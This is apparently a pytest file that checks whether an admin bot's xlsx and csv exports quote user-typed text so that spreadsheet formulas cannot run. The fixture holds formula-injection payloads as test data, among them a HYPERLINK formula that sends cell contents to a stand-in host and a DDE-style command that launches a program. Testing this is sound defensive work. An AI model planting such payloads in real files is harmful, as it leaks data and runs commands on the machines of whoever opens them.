"""Text people typed reaches the organisers' spreadsheets as text: never a formula that runs when the file opens."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from openpyxl import load_workbook

from tests.admin_support import add_collectivity

LEAK = '=HYPERLINK("http://evil.invalid/?leak="&A2,"Ouvrir")'
HOSTILE = {
    "name": "+Ville de Formule",
    "name_ja": "@SUM(1+1)*cmd|' /C calc'!A0",
    "delegate": "-2+3",
    "role": "\tadjoint",
}


@pytest.fixture
def hostile(core):
    """A confirmed collectivity whose every typed text starts like a formula, and a plain one."""
    add_collectivity(
        core,
        HOSTILE["name"],
        name_ja=HOSTILE["name_ja"],
        choices=(1, 2),
        delegates=[(HOSTILE["delegate"], HOSTILE["role"]), ("\rCamille Exemple", None)],
        options={"opening-dinner": 2},
        abstract=(1, LEAK),
    )
    add_collectivity(core, "Ville de Sète", name_ja="\rセート市", choices=(1, 3))


def export(chat, what: str) -> bytes:
    orga = chat("orga", locale_hint="en")
    orga.send(f"/admin export {what}")
    (reply,) = orga.last
    assert reply.attachment is not None, reply.text
    return reply.attachment.content


def xlsx_cells(content: bytes) -> list[list[tuple[object, str]]]:
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    return [[(c.value, c.data_type) for c in row] for row in sheet.iter_rows()]


def csv_rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def starts_like_a_formula(text: str) -> bool:
    return text.startswith(("=", "+", "-", "@", "\t", "\r"))


@pytest.mark.parametrize("kind", ["doc5", "doc7", "doc8", "delegations"])
def test_no_cell_of_an_xlsx_export_is_a_formula(chat, hostile, kind):
    content = export(chat, f"{kind} xlsx")
    cells = [cell for row in xlsx_cells(content) for cell in row]
    assert [value for value, kind_ in cells if kind_ == "f"] == []
    texts = [value for value, _ in cells if isinstance(value, str)]
    assert not [t for t in texts if starts_like_a_formula(t)]
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<t>=" not in sheet_xml
    assert f"'{HOSTILE['name']}" in texts


@pytest.mark.parametrize("kind", ["doc5", "doc7", "doc8", "delegations"])
def test_no_cell_of_a_csv_export_starts_like_a_formula(chat, hostile, kind):
    rows = csv_rows(export(chat, f"{kind} csv"))
    assert not [cell for row in rows for cell in row if starts_like_a_formula(cell)]
    assert any(f"'{HOSTILE['name']}" in row for row in rows)


def test_doc7_keeps_the_abstract_title_as_it_was_typed_behind_a_quote(chat, hostile):
    header, *rows = [[value for value, _ in row] for row in xlsx_cells(export(chat, "doc7 xlsx"))]
    titles = [r[header.index("Abstract title")] for r in rows]
    assert f"'{LEAK}" in titles
    header, *rows = csv_rows(export(chat, "doc7 csv"))
    assert f"'{LEAK}" in [r[header.index("Abstract title")] for r in rows]
    assert "Ville de Sète" in [r[header.index("Name (French)")] for r in rows]


def test_delegations_quote_the_names_and_keep_the_numbers_as_numbers(chat, hostile):
    header, *rows = [[value for value, _ in row] for row in xlsx_cells(export(chat, "delegations xlsx"))]
    first = rows[0]
    assert first[header.index("Name (Japanese)")] == f"'{HOSTILE['name_ja']}"
    delegates = first[header.index("Delegates")]
    assert delegates.startswith(f"'{HOSTILE['delegate']} ({HOSTILE['role']}); ") and "Camille Exemple" in delegates
    total = rows[-3]
    assert total[header.index("Name (French)")] == "Total" and total[header.index("People")] == 2
    assert first[header.index("People")] == 2  # counts stay numbers


def test_the_chat_view_shows_the_text_unchanged(chat, hostile):
    answer = chat("orga", locale_hint="en").send("/admin show doc7")
    assert LEAK in answer and f"'{LEAK}" not in answer
